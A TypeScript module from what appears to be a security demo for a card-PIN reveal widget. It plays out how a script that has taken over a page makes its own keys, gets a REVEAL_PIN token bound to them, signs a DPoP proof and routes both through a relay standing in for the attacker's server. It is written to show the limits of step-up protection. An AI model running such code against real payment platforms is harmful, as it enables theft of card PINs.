/**
 * The hostile host (docs/step-up.md, "What it buys, and where it stops"): what script that has
 * taken over this page does to reveal a PIN, written as such a script would be, in the page,
 * with nothing but WebCrypto. It makes keys of its own, has the program's backend mint a
 * REVEAL_PIN token bound to them through the route the widget uses, signs the DPoP proof itself,
 * and sends both out through the demo's relay (its stand-in for the attacker's own server).
 */

type Api = (method: string, path: string, body?: unknown) => Promise<Record<string, any>>;

/** What the relay reports of the platform's answer: never the ciphertext, never a PIN. */
export interface HostileAnswer {
  platform_status: number;
  code?: string | null;
  message?: string | null;
  encrypted_pin?: { alg: string; enc: string; characters: number };
}

interface PublicJwk {
  kty: string;
  crv: string;
  x: string;
  y: string;
}

const utf8 = (text: string) => new TextEncoder().encode(text);

function base64url(bytes: ArrayBuffer | Uint8Array): string {
  const view = bytes instanceof Uint8Array ? bytes : new Uint8Array(bytes);
  let binary = '';
  for (const byte of view) binary += String.fromCharCode(byte);
  return btoa(binary).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

const publicJwk = async (key: CryptoKey): Promise<PublicJwk> => {
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', key);
  return { kty: kty!, crv: crv!, x: x!, y: y! };
};

/** The script's keys: ES256 for DPoP, ECDH P-256 for the PIN. Private keys not extractable. */
async function attackerKeys() {
  const signing = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, false, [
    'sign',
    'verify',
  ]);
  const jwk = await publicJwk(signing.publicKey);
  // RFC 7638: the required members in lexicographic order, no spaces.
  const canonical = JSON.stringify({ crv: jwk.crv, kty: jwk.kty, x: jwk.x, y: jwk.y });
  const jkt = base64url(await crypto.subtle.digest('SHA-256', utf8(canonical)));
  const decrypting = await crypto.subtle.generateKey({ name: 'ECDH', namedCurve: 'P-256' }, false, [
    'deriveBits',
  ]);
  return { signing, jwk, jkt, ecdhPublic: await publicJwk(decrypting.publicKey) };
}

/** An RFC 9449 proof: ES256 over the request and the token's hash (WebCrypto signs r‖s). */
async function dpopProof(
  keys: Awaited<ReturnType<typeof attackerKeys>>,
  method: string,
  url: string,
  token: string,
): Promise<string> {
  const header = { typ: 'dpop+jwt', alg: 'ES256', jwk: keys.jwk };
  const payload = {
    jti: crypto.randomUUID(),
    htm: method,
    htu: url,
    iat: Math.floor(Date.now() / 1000),
    ath: base64url(await crypto.subtle.digest('SHA-256', utf8(token))),
  };
  const input = `${base64url(utf8(JSON.stringify(header)))}.${base64url(utf8(JSON.stringify(payload)))}`;
  const signature = await crypto.subtle.sign(
    { name: 'ECDSA', hash: 'SHA-256' },
    keys.signing.privateKey,
    utf8(input),
  );
  return `${input}.${base64url(signature)}`;
}

/**
 * The attack, step by step; `progress` hears each step as it happens. The platform's answer
 * comes back through the relay as it is, but for the encrypted PIN, which the relay drops.
 */
export async function revealAsHostileHost(
  { cardId, platformUrl, api }: { cardId: string; platformUrl: string; api: Api },
  progress: (step: string) => void,
): Promise<HostileAnswer> {
  const keys = await attackerKeys();
  progress(`Made its own DPoP key (thumbprint ${keys.jkt.slice(0, 12)}…) with WebCrypto.`);
  const { token } = await api('POST', '/api/widget-token', {
    card_id: cardId,
    widget_type: 'REVEAL_PIN',
    jkt: keys.jkt,
  });
  progress('This program’s backend minted a Reveal PIN token bound to that key.');
  const url = new URL('/v1/widget/pin/reveal', platformUrl).href;
  const proof = await dpopProof(keys, 'POST', url, token as string);
  progress('Signed a valid DPoP proof for the platform’s reveal. No passkey confirmation.');
  const answer = (await api('POST', '/api/hostile-host/reveal', {
    card_id: cardId,
    token,
    dpop: proof,
    public_key: keys.ecdhPublic,
  })) as HostileAnswer;
  progress('Sent both through the relay, which called the platform.');
  return answer;
}
